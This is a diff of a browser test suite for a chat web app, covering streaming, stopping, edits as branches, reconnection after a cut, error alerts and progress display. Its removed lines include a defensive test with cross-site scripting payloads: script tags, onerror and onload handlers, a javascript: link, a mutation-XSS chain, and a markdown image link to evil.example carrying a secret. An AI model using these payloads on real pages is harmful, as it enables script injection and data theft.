@@ -1,9 +1,11 @@
-"""Asking, reading, stopping, failing: what the page does with an answer."""
+"""Asking, reading, stopping, editing, failing: what the page does with an answer."""
+
+import re
 
 import pytest
 
 from tests.browser.conftest import Chat, Open
-from tests.browser.scripted import DONE, Gate, Script, delta, error, event, finish
+from tests.browser.scripted import Cut, Gate, Part, Script, delta, failed, finish, problem, thought
 
 sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
 expect = sync_api.expect
@@ -12,10 +14,10 @@ pytestmark = pytest.mark.browser
 
 def test_an_answer_streams_in(chat: Chat, script: Script) -> None:
     first, second = Gate(), Gate()
-    script.will(": \n\n", first, delta("Paris"), second, delta(" is the capital."), *finish())
+    script.will(first, delta("Paris"), second, delta(" is the capital."), *finish())
     expect(chat.input).to_be_focused()
     chat.ask("What is the capital of France?")
-    expect(chat.page.locator("article.question .text")).to_have_text("What is the capital of France?")
+    expect(chat.questions.locator(".text")).to_have_text("What is the capital of France?")
     expect(chat.input).to_have_value("")
     expect(chat.answers.last.locator(".wait")).to_be_visible()
     expect(chat.status).to_have_text("Reading your text…")
@@ -25,19 +27,16 @@ def test_an_answer_streams_in(chat: Chat, script: Script) -> None:
     expect(chat.button("Stop the answer")).to_be_visible()
     second.set()
     expect(chat.answer).to_have_text("Paris is the capital.")
-    expect(chat.answers.last.locator(".figures")).to_have_text("412 tokens · 6.2 tok/s")
+    expect(chat.answers.last.locator(".figures")).to_have_text("412 tokens · 6.2 tok/s · first after 1.8 s")
+    expect(chat.page.locator("#context-text")).to_have_text("432 / 4,096")
     expect(chat.button("Send")).to_be_visible()
-    expect(chat.page.locator("#announcer")).to_have_text("Answer finished")
+    expect(chat.page.locator("#announcer")).to_have_text("Answer finished, 4 words")
     assert script.requests == [
-        {
-            "messages": [{"role": "user", "content": "What is the capital of France?"}],
-            "stream": True,
-            "stream_options": {"include_usage": True},
-        }
+        {"conversation_id": None, "parent_id": None, "content": "What is the capital of France?"}
     ]
 
 
-def test_the_next_question_carries_the_conversation(chat: Chat, script: Script) -> None:
+def test_the_next_question_follows_the_answer(chat: Chat, script: Script) -> None:
     script.will_say("\n\n Hello!")
     script.will_say("Fine.", tokens=1, speed=None)
     chat.ask("Hi")
@@ -46,17 +45,20 @@ def test_the_next_question_carries_the_conversation(chat: Chat, script: Script) 
     chat.ask("How are you?")
     expect(chat.answer).to_have_text("Fine.")
     expect(chat.answers.last.locator(".figures")).to_have_text("1 token")
-    assert script.requests[1]["messages"] == [
-        {"role": "user", "content": "Hi"},
-        {"role": "assistant", "content": "\n\n Hello!"},
-        {"role": "user", "content": "How are you?"},
-    ]
+    (conversation,) = script.records.conversations.values()
+    answer = conversation["messages"][1]
+    assert script.requests[1] == {
+        "conversation_id": conversation["id"],
+        "parent_id": answer["id"],
+        "content": "How are you?",
+    }
+    expect(chat.page).to_have_title("Hi · edgechat")
+    assert chat.page.url.endswith(f"?c={conversation['id']}")
 
 
 @pytest.mark.parametrize("way", ["button", "Escape"])
 def test_stop_keeps_the_text(chat: Chat, script: Script, way: str) -> None:
-    never = Gate()
-    script.will(delta("Once upon a time"), never, *finish())
+    script.will(delta("Once upon a time"), Gate(), *finish())
     chat.ask("Tell me a story")
     expect(chat.answer).to_have_text("Once upon a time")
     if way == "button":
@@ -66,50 +68,185 @@ def test_stop_keeps_the_text(chat: Chat, script: Script, way: str) -> None:
     expect(chat.answers.last.locator(".badge")).to_have_text("Stopped")
     expect(chat.answer).to_have_text("Once upon a time")
     expect(chat.button("Send")).to_be_visible()
-    assert script.left.wait(5), "the server was not told"
-    script.will_say("A whole story.")
-    chat.button("Try again").click()
-    expect(chat.answer).to_have_text("A whole story.")
-    expect(chat.answers).to_have_count(1)
-    assert script.requests[1] == script.requests[0]
+    assert len(script.stopped) == 1
+    script.will_say("And they lived.")
+    chat.button("Continue").click()
+    expect(chat.answer).to_have_text("And they lived.")
+    assert script.requests[1]["content"] == "Please continue."
 
 
-def test_typing_goes_on_while_an_answer_streams(chat: Chat, script: Script) -> None:
+def test_what_is_sent_meanwhile_waits_for_the_end(chat: Chat, script: Script) -> None:
     gate = Gate()
     script.will(delta("First"), gate, *finish())
     chat.ask("One")
     expect(chat.answer).to_have_text("First")
     chat.ask("Two")
+    expect(chat.input).to_have_value("")
+    expect(chat.page.locator("#following-text")).to_have_text("Two")
+    chat.button("Edit").last.click()
     expect(chat.input).to_have_value("Two")
-    expect(chat.status).to_have_text("An answer is being written. Stop it, or wait until it is done.")
-    assert len(script.requests) == 1
-    gate.set()
-    expect(chat.button("Send")).to_be_visible()
-    script.will_say("Second")
+    expect(chat.page.locator("#following")).to_be_hidden()
     chat.input.press("Enter")
+    assert len(script.requests) == 1
+    script.will_say("Second")
+    gate.set()
     expect(chat.answer).to_have_text("Second")
+    expect(chat.page.locator("#following")).to_be_hidden()
+    assert script.requests[1]["content"] == "Two"
 
 
-def test_new_chat_and_the_way_back(chat: Chat, script: Script) -> None:
-    never = Gate()
-    script.will(delta("Half an answer"), never)
+def test_what_waits_comes_back_when_the_answer_broke(chat: Chat, script: Script) -> None:
+    gate = Gate()
+    script.will(delta("First"), gate, failed("engine_failed", "gone"))
+    chat.ask("One")
+    chat.ask("Two")
+    gate.set()
+    expect(chat.answers.last.get_by_role("alert")).to_be_visible()
+    expect(chat.input).to_have_value("Two")
+    assert len(script.requests) == 1
+
+
+# Versions
+
+
+def test_another_answer_keeps_the_first(chat: Chat, script: Script) -> None:
+    script.will_say("Version one.")
+    script.will_say("Version two.")
+    chat.ask("Tell me")
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    chat.button("Answer again").click()
+    expect(chat.answer).to_have_text("Version two.")
+    expect(chat.answers).to_have_count(1)
+    question = script.records.conversations["c-1"]["messages"][0]
+    assert script.requests[1] == {"conversation_id": "c-1", "parent_id": question["id"]}
+    place = chat.answers.last.locator(".place")
+    expect(place).to_have_text("2/2")
+    expect(place).to_have_attribute("aria-label", "Version 2 of 2")
+    chat.button("Previous version").last.click()
+    expect(chat.answer).to_have_text("Version one.")
+    expect(place).to_have_text("1/2")
+    chat.open("?lang=en&c=c-1")  # the branch is kept over a reload
+    expect(chat.answer).to_have_text("Version one.")
+    expect(chat.answers.last.locator(".place")).to_have_text("1/2")
+
+
+def test_an_edit_is_a_branch(chat: Chat, script: Script) -> None:
+    script.will_say("Cats sleep a lot.")
+    script.will_say("They do.")
+    script.will_say("Dogs run.")
+    chat.ask("Tell me about cats")
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    chat.ask("Really?")
+    expect(chat.answer).to_have_text("They do.")
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    chat.questions.first.hover()
+    chat.questions.first.get_by_role("button", name="Edit").click()
+    field = chat.page.get_by_role("textbox", name="Edit")
+    expect(field).to_be_focused()
+    field.fill("Tell me about dogs")
+    chat.questions.first.get_by_role("button", name="Send").click()
+    expect(chat.answer).to_have_text("Dogs run.")
+    expect(chat.questions).to_have_count(1)
+    expect(chat.questions.first.locator(".place")).to_have_text("2/2")
+    assert script.requests[2] == {"conversation_id": "c-1", "parent_id": None, "content": "Tell me about dogs"}
+    chat.questions.first.get_by_role("button", name="Previous version").click()
+    expect(chat.questions).to_have_count(2)
+    expect(chat.answer).to_have_text("They do.")
+    expect(chat.questions.first.locator(".text")).to_have_text("Tell me about cats")
+
+
+def test_an_edit_can_be_left(chat: Chat, script: Script) -> None:
+    script.will_say("Fine.")
+    chat.ask("Hello")
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    chat.page.keyboard.press("ArrowUp")  # in the empty box: the last question
+    field = chat.page.get_by_role("textbox", name="Edit")
+    field.fill("Something else")
+    chat.page.keyboard.press("Escape")
+    expect(chat.questions.locator(".text")).to_have_text("Hello")
+    assert len(script.requests) == 1
+
+
+# The run belongs to the server
+
+
+def test_a_reload_reads_on(chat: Chat, script: Script) -> None:
+    gate = Gate()
+    script.will(delta("Half "), delta("of it, "), gate, delta("and the rest."), *finish())
+    chat.ask("Go")
+    expect(chat.answer).to_have_text("Half of it,")
+    chat.page.reload()
+    expect(chat.answer).to_have_text("Half of it,")
+    expect(chat.button("Stop the answer")).to_be_visible()
+    gate.set()
+    expect(chat.answer).to_have_text("Half of it, and the rest.")
+    expect(chat.answers).to_have_count(1)
+    assert script.stopped == []
+
+
+def test_a_broken_line_is_taken_up_where_it_broke(chat: Chat, script: Script) -> None:
+    words = [delta(f"word {n} ") for n in range(40)]
+    first, second = Gate(), Gate()
+    script.will(*words[:15], first, Cut(), *words[15:30], second, Cut(), *words[30:], *finish())
+    chat.ask("Count")
+    expect(chat.answer).to_contain_text("word 14")
+    first.set()
+    expect(chat.status).to_have_text("Connection lost. The answer goes on; reconnecting…")
+    expect(chat.answer).to_contain_text("word 29")
+    second.set()
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    expect(chat.answer).to_have_text(" ".join(f"word {n}" for n in range(40)))
+    assert script.resumed == [None, "15", "30"]
+
+
+def test_going_elsewhere_stops_nothing(chat: Chat, script: Script) -> None:
+    gate = Gate()
+    script.will(delta("Half an answer"), gate, delta(", whole."), *finish())
     chat.ask("Hello")
     expect(chat.answer).to_have_text("Half an answer")
-    chat.button("New chat").click()
+    chat.button("New chat").first.click()
     expect(chat.page.locator("#empty")).to_be_visible()
-    expect(chat.answers).to_have_count(0)
     expect(chat.button("Send")).to_be_visible()
     expect(chat.input).to_be_focused()
-    assert script.left.wait(5), "the answer of the old chat goes on"
-    chat.button("Back to the last chat").click()
+    chat.rows.first.locator("a").click()
     expect(chat.answer).to_have_text("Half an answer")
-    expect(chat.answers.last.locator(".badge")).to_have_text("Stopped")
-    chat.button("New chat").click()
-    script.will_say("Something else.")
-    chat.ask("New subject")
-    expect(chat.answer).to_have_text("Something else.")
-    assert script.requests[1]["messages"] == [{"role": "user", "content": "New subject"}]
-    expect(chat.button("Back to the last chat")).to_be_hidden()
+    expect(chat.button("Stop the answer")).to_be_visible()
+    gate.set()
+    expect(chat.answer).to_have_text("Half an answer, whole.")
+    assert script.stopped == []
+
+
+def test_a_server_that_was_started_anew(chat: Chat, script: Script) -> None:
+    script.will(delta("So far"), Gate())
+    chat.ask("Hello")
+    expect(chat.answer).to_have_text("So far")
+    script.records.conversations["c-1"]["messages"][1]["content"] = "So far"
+    script.restart()
+    alert = chat.answers.last.get_by_role("alert")
+    expect(alert).to_contain_text("The answer was interrupted: the server was restarted.", timeout=15_000)
+    expect(chat.answer).to_have_text("So far")
+    script.will_say("Whole.")
+    chat.button("Try again").click()
+    expect(chat.answer).to_have_text("Whole.")
+    assert "content" not in script.requests[1]
+
+
+def test_the_back_button_goes_through_the_conversations(chat: Chat, script: Script) -> None:
+    script.will_say("One.")
+    chat.ask("First")
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    chat.button("New chat").first.click()
+    script.will_say("Two.")
+    chat.ask("Second")
+    expect(chat.answer).to_have_text("Two.")
+    expect(chat.answers.last.locator(".figures")).to_be_attached()
+    chat.page.go_back()
+    expect(chat.page.locator("#empty")).to_be_visible()
+    chat.page.go_back()
+    expect(chat.answer).to_have_text("One.")
+
+
+# Refusals and errors
 
 
 def test_an_example_is_a_question(chat: Chat, script: Script) -> None:
@@ -118,204 +255,139 @@ def test_an_example_is_a_question(chat: Chat, script: Script) -> None:
     text = example.inner_text()
     example.click()
     expect(chat.answer).to_have_text("Because of scattering.")
-    assert script.requests[0]["messages"] == [{"role": "user", "content": text}]
+    assert script.requests[0]["content"] == text
 
 
 def test_error_before_the_first_byte(chat: Chat, script: Script) -> None:
-    script.will('{"error":{"message":"the engine died <b>twice</b>","type":"x","code":"engine_failed"}}', status=500)
+    script.will_refuse(500, problem("engine_failed", "the engine died <b>twice</b>"))
     chat.ask("Hello")
-    problem = chat.answers.last.get_by_role("alert")
-    expect(problem).to_contain_text("The model stopped working in the middle.")
-    expect(problem).to_contain_text("try once more in a moment")
-    problem.get_by_text("Details").click()
-    expect(problem.locator(".raw")).to_have_text("the engine died <b>twice</b>")
-    expect(chat.page.locator("article.question .text")).to_have_text("Hello")
+    alert = chat.answers.last.get_by_role("alert")
+    expect(alert).to_contain_text("The model stopped working in the middle.")
+    expect(alert).to_contain_text("try once more in a moment")
+    alert.get_by_text("Details").click()
+    expect(alert.locator(".raw")).to_have_text("the engine died <b>twice</b>")
+    expect(chat.questions.locator(".text")).to_have_text("Hello")
     script.will_say("Back again.")
     chat.button("Try again").click()
     expect(chat.answer).to_have_text("Back again.")
-    expect(problem).to_have_count(0)
-    expect(chat.input).to_be_focused()
+    expect(alert).to_have_count(0)
+    expect(chat.questions).to_have_count(1)
+    assert script.requests[1] == script.requests[0]
 
 
 def test_error_after_the_first_byte(chat: Chat, script: Script) -> None:
-    script.will(delta("So far"), event(error("engine_failed", "the engine's process ended")))
+    script.will(delta("So far"), failed("engine_failed", "the engine's process ended"))
     chat.ask("Hello")
-    problem = chat.answers.last.get_by_role("alert")
-    expect(problem).to_contain_text("The model stopped working in the middle.")
+    expect(chat.answers.last.get_by_role("alert")).to_contain_text("The model stopped working in the middle.")
     expect(chat.answer).to_have_text("So far")
     script.will_say("Whole.")
     chat.button("Try again").click()
     expect(chat.answer).to_have_text("Whole.")
-    assert script.requests[1] == script.requests[0]
-
-
-def test_a_stream_that_ends_without_done_is_an_error(chat: Chat, script: Script) -> None:
-    script.will(delta("Cut o"))
-    chat.ask("Hello")
-    expect(chat.answers.last.get_by_role("alert")).to_contain_text("The connection broke")
-    expect(chat.answer).to_have_text("Cut o")
+    assert script.requests[1] == {"conversation_id": "c-1", "parent_id": "m-2"}
 
 
 @pytest.mark.parametrize(
     ("status", "body", "said", "raw"),
     [
-        (
-            400,
-            '{"error":{"message":"top_p is out of range","code":"new"}}',
-            "cannot answer this",
-            "top_p is out of range",
-        ),
+        (400, problem("new", "top_p is out of range"), "cannot answer this", "top_p is out of range"),
         (429, "slow down", "too much to do", "slow down"),
         (502, "", "went wrong on the server", "HTTP 502"),
+        (507, problem("out_of_memory", "needs 900 MB"), "not enough memory", "needs 900 MB"),
     ],
 )
 def test_any_refusal_is_told(chat: Chat, script: Script, status: int, body: str, said: str, raw: str) -> None:
-    script.will(body, status=status)
+    script.will_refuse(status, body)
     chat.ask("Hello")
     expect(chat.answers.last.get_by_role("alert")).to_contain_text(said)
     expect(chat.answers.last.locator(".raw")).to_have_text(raw)
 
 
+def test_too_many_requests_are_counted_down_and_tried_once_more(chat: Chat, script: Script) -> None:
+    script.will_refuse(429, problem("busy", "slow down"), **{"Retry-After": "2"})
+    script.will_say("Now.")
+    chat.ask("Hello")
+    expect(chat.status).to_have_text(re.compile(r"Too many requests\. Again in [12] s\."))
+    expect(chat.answer).to_have_text("Now.")
+    assert script.keys[0] == script.keys[1]  # the same turn
+
+
 def test_a_chat_that_no_longer_fits_can_start_over(chat: Chat, script: Script) -> None:
-    script.will('{"error":{"message":"5000 of 4096","code":"context_length_exceeded"}}', status=400)
+    script.will_refuse(400, problem("context_length_exceeded", "5000 of 4096"))
     chat.ask("A long question")
     chat.button("New chat with this question").click()
     expect(chat.answers).to_have_count(0)
     expect(chat.input).to_have_value("A long question")
 
 
-def test_a_failed_turn_is_left_out_of_the_next_one(chat: Chat, script: Script) -> None:
-    script.will("", status=500)
-    script.will_say("Yes.")
-    chat.ask("Lost")
-    expect(chat.answers.last.get_by_role("alert")).to_be_visible()
-    chat.ask("Are you there?")
-    expect(chat.answer).to_have_text("Yes.")
-    assert script.requests[1]["messages"] == [{"role": "user", "content": "Are you there?"}]
-
-
 def test_the_length_limit_is_named(chat: Chat, script: Script) -> None:
     script.will_say("A very long answ", reason="length")
     chat.ask("Go on")
     expect(chat.answers.last.locator(".badge")).to_have_text("Reached the length limit")
-    expect(chat.answers.last.locator(".figures")).to_be_visible()
+    expect(chat.button("Continue")).to_be_visible()
 
 
-def test_queue_and_prefill_are_shown(chat: Chat, script: Script) -> None:
-    queued, loading, prefill = Gate(), Gate(), Gate()
-    script.will(
-        ": queued 2 of 4\n\n",
-        queued,
-        ": loading\n\n",
-        loading,
-        ": prefill 120 of 300\n\n",
-        prefill,
-        delta("Hi"),
-        *finish(),
-    )
+# Progress
+
+
+def test_queue_loading_and_reading_are_shown(chat: Chat, script: Script) -> None:
+    steps: dict[str, Part] = {
+        "Place 3 in the queue · about 30 s": ("queued", {"position": 3, "eta_s": 30.2}),
+        "Place 1 in the queue": ("queued", {"position": 1, "eta_s": None}),
+        "Loading the model: 40%": ("loading", {"stage": "weights", "pct": 40.0}),
+        "Loading the model…": ("loading", {"stage": "warm-up", "pct": None}),
+        "Reading your text: 40% · 6 s left": ("prefill", {"done": 120, "total": 300, "eta_s": 6.3}),
+        "Reading your text: 80%": ("prefill", {"done": 240, "total": 300, "eta_s": None}),
+    }
+    gates = [Gate() for _ in steps]
+    parts: list[Part] = [part for step, gate in zip(steps.values(), gates, strict=True) for part in (step, gate)]
+    script.will(*parts, delta("Hi"), *finish())
     chat.ask("Hello")
-    expect(chat.status).to_have_text("Place 2 of 4 in the queue")
-    queued.set()
-    expect(chat.status).to_have_text("Loading the model…")
-    loading.set()
-    expect(chat.status).to_have_text("Reading your text: 40%")
-    expect(chat.page.get_by_role("progressbar")).to_have_js_property("value", 0.4)
-    prefill.set()
+    for said, gate in zip(steps, gates, strict=True):
+        expect(chat.status).to_have_text(said)
+        gate.set()
     expect(chat.answer).to_have_text("Hi")
     expect(chat.status).to_be_hidden()
 
 
-def test_model_output_stays_text(chat: Chat, script: Script) -> None:
-    attack = (
-        "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
-        "<a href='javascript:alert(4)'>x</a><math><mtext></form><form><mglyph><style></math><img src onerror=alert(5)>"
-        '<form id="app"><input name="messages"></form>![](https://evil.example/?q=secret) {n} </script>'
-    )
-    script.will_say(attack)
-    script.will(
-        f'{{"error":{{"message":"{attack.replace(chr(34), "")}","code":"{attack.split("<img", 1)[0]}"}}}}', status=500
-    )
-    chat.ask(attack)
-    expect(chat.answer).to_have_text(attack)
-    expect(chat.page.locator("article.question .text")).to_have_text(attack)
+def test_thoughts_open_and_close(chat: Chat, script: Script) -> None:
+    gate = Gate()
+    script.will(thought("Let me see. "), thought("Two and two…"), gate, delta("Four."), *finish())
+    chat.ask("2 + 2?")
+    thoughts = chat.answers.last.locator(".thoughts")
+    expect(thoughts).to_have_attribute("open", "")
+    expect(thoughts.locator(".text")).to_have_text("Let me see. Two and two…")
+    expect(chat.page.locator("#announcer")).to_have_text("Thinking")
+    gate.set()
+    expect(chat.answer).to_have_text("Four.")
+    expect(thoughts).not_to_have_attribute("open", "")
+    expect(thoughts.locator("summary")).to_have_text(re.compile(r"Thought for \d+ s"))
+    chat.page.reload()
+    expect(chat.answers.last.locator(".thoughts summary")).to_have_text("Thoughts")
+    expect(chat.answer).to_have_text("Four.")
+
+
+def test_the_whole_answer_replaces_what_is_there(chat: Chat, script: Script) -> None:
+    script.will(delta("Hal"), ("snapshot", {"content": "Half of it", "reasoning": ""}), delta(" and all."), *finish())
+    chat.ask("Go")
+    expect(chat.answer).to_have_text("Half of it and all.")
+
+
+def test_the_context_warns_before_it_is_full(chat: Chat, script: Script) -> None:
+    script.will_say("Long.", used=3400)
+    script.will_say("Longer.", used=4000)
+    chat.ask("Hello")
+    expect(chat.page.locator("#context.high")).to_contain_text("3,400 / 4,096")
+    expect(chat.page.locator("#context-full")).to_be_hidden()
     expect(chat.button("Send")).to_be_visible()
-    chat.ask("again")
-    expect(chat.answers.last.get_by_role("alert")).to_be_visible()
-    inside = chat.page.locator("#messages").locator("script, img, a, form, input, math, style, iframe, svg[onload]")
-    expect(inside).to_have_count(0)
+    chat.ask("More")
+    expect(chat.page.locator("#context-full")).to_contain_text("The oldest part will be left out.")
 
 
-def test_line_breaks_and_spaces_are_kept(chat: Chat, script: Script) -> None:
-    script.will_say("def f():\n    return 1\n\nEnd")
-    chat.ask("line one\nline two")
-    expect(chat.answers.last.locator(".figures")).to_be_visible()
-    assert chat.answer.inner_text() == "def f():\n    return 1\n\nEnd"
-    assert chat.page.locator("article.question .text").inner_text() == "line one\nline two"
-
-
-def test_enter_breaks_the_line_on_a_touch_screen(new_chat: Open, script: Script) -> None:
-    chat = new_chat(viewport={"width": 360, "height": 740}, has_touch=True, is_mobile=True).open()
-    script.will_say("Hello.")
-    chat.input.tap()
-    chat.page.keyboard.type("one")
-    chat.input.press("Enter")
-    chat.page.keyboard.type("two")
-    expect(chat.input).to_have_value("one\ntwo")
-    chat.button("Send").tap()
-    expect(chat.answer).to_have_text("Hello.")
-
-
-def test_shift_enter_breaks_the_line_and_the_box_grows_to_eight(chat: Chat) -> None:
-    def height() -> float:
-        box = chat.input.bounding_box()
-        assert box
-        return float(box["height"])
-
-    one = two = height()
-    for line in range(1, 12):
-        chat.page.keyboard.type(f"line {line}")
-        chat.input.press("Shift+Enter")
-        if line == 1:
-            two = height()
-            assert one < two < 2 * one
-    assert height() == pytest.approx(one + 7 * (two - one), abs=1)
-    chat.input.fill("")
-    assert height() == one
-
-
-def test_nothing_is_sent_without_words(chat: Chat, script: Script) -> None:
-    chat.ask("  \n ")
-    chat.button("Send").dispatch_event("click")
-    expect(chat.answers).to_have_count(0)
-    assert script.requests == []
-
-
-def test_enter_belongs_to_the_input_method(chat: Chat, script: Script) -> None:
-    """Choosing characters with Enter sends nothing: while composing, and in Safari's order just after."""
-    script.will_say("你好！")
-    devtools = chat.page.context.new_cdp_session(chat.page)
-    devtools.send("Input.imeSetComposition", {"text": "nihao", "selectionStart": 5, "selectionEnd": 5})
-    # As an input method's Enter comes: a key, but no character.
-    enter = {"type": "rawKeyDown", "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13}
-    devtools.send("Input.dispatchKeyEvent", enter)
-    devtools.send("Input.insertText", {"text": "你好"})
-    chat.input.dispatch_event("keydown", {"key": "Enter", "keyCode": 229, "bubbles": True, "cancelable": True})
-    expect(chat.input).to_have_value("你好")
-    expect(chat.answers).to_have_count(0)
-    chat.input.press("Enter")
-    expect(chat.answer).to_have_text("你好！")
-    assert [request["messages"][-1]["content"] for request in script.requests] == ["你好"]
-
-
-def test_a_stream_with_odd_edges_is_read_whole(chat: Chat, script: Script) -> None:
-    text = "中文🙂字"
-    raw = (delta(text[:2]) + delta(text[2:])).replace("\n", "\r\n").encode()
-    gates = [Gate() for _ in raw]
-    parts = [part for at, gate in enumerate(gates) for part in (raw[at : at + 1], gate)]
-    for gate in gates:
-        gate.set()
-    script.will(*parts, ":keep\n\n", "event: message\nid: 7\nretry: 5\n", *finish()[:2], DONE)
-    chat.ask("字")
-    expect(chat.answers.last.locator(".figures")).to_be_visible()
-    expect(chat.answer).to_have_text(text)
-    expect(chat.answer).to_have_attribute("lang", "zh-CN")
+def test_a_long_conversation_opens_at_its_end(new_chat: Open, script: Script) -> None:
+    id = script.records.add("Long", *[f"text {n}" for n in range(300)])
+    chat = new_chat().open(f"?lang=en&c={id}")
+    expect(chat.page.locator("article")).to_have_count(60)
+    expect(chat.answer).to_have_text("text 299")
+    expect(chat.answers.last).to_be_in_viewport()
+    chat.button("Show 240 earlier messages").click()
+    expect(chat.page.locator("article")).to_have_count(300)
